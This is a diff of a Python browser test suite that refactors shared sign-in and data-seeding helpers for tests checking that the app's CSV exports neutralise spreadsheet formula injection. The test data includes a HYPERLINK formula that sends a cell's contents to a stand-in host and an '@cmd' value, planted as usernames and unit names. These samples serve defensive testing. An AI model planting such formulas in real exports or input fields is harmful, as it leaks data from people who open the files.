@@ -20,11 +20,10 @@ from sqlalchemy.orm import Session
 
 from app import ROOT, create_app
 from components.tables import grid
-from data.demo import seed_demo
 from data.ingest.load import import_file
 from data.units import children, unit_by_code
-from tests.browser import browser_page, chromium_path, live_server
-from tests.conftest import DEMO_END, PASSWORD, add_users, csrf_from, new_store
+from tests.browser import browser_page, chromium_path, live_server, sign_in
+from tests.conftest import csrf_from, seeded_store
 
 HYPERLINK = '=HYPERLINK("http://x/?"&B2,"Click")'
 # (cell text, what the CSV must hold), written out by hand from OWASP's rule.
@@ -92,9 +91,7 @@ def hostile_app(tmp_path_factory):
     """The tiny demo on SQLite, with hostile failed-login usernames and an imported unit name."""
     chromium_path()
     tmp = tmp_path_factory.mktemp("csv")
-    store = new_store("sqlite", tmp)
-    seed_demo(store.engine, "tiny", 42, DEMO_END)
-    add_users(store)
+    store = seeded_store("sqlite", tmp)
     with Session(store.engine) as s:
         county = children(s, unit_by_code(s, "ZJ-HZ"))[0]
         row = [county.code, HYPERLINK, "@cmd", str(county.tier), "ZJ-HZ"]
@@ -117,19 +114,11 @@ def hostile_app(tmp_path_factory):
     store.drop()
 
 
-def _sign_in(page, base: str, username: str) -> None:
-    page.goto(base + "/login")
-    page.fill("#username", username)
-    page.fill("#password", PASSWORD)
-    page.click("#login-submit")
-    page.wait_for_url(base + "/")
-
-
 @pytest.mark.browser
 def test_the_audit_log_export_neutralises_failed_login_usernames(hostile_app):
     base, _county = hostile_app
     with browser_page() as (page, errors):
-        _sign_in(page, base, "admin")
+        sign_in(page, base, "admin")
         page.goto(base + "/admin")
         page.get_by_role("tab", name="审计日志 Audit log").click()
         page.wait_for_selector(f"#admin-audit .ag-cell >> text={HYPERLINK}")
@@ -145,7 +134,7 @@ def test_the_audit_log_export_neutralises_failed_login_usernames(hostile_app):
 def test_the_league_table_export_neutralises_imported_unit_names(hostile_app):
     base, county = hostile_app
     with browser_page() as (page, errors):
-        _sign_in(page, base, "admin")
+        sign_in(page, base, "admin")
         page.goto(base + "/regions?unit=ZJ-HZ&start=2026-06-01&end=2026-06-30")
         page.wait_for_selector(f"[row-id='{county}'] .ag-cell")
         rows = _download(page, lambda: page.get_by_role("button", name="导出 CSV").click())
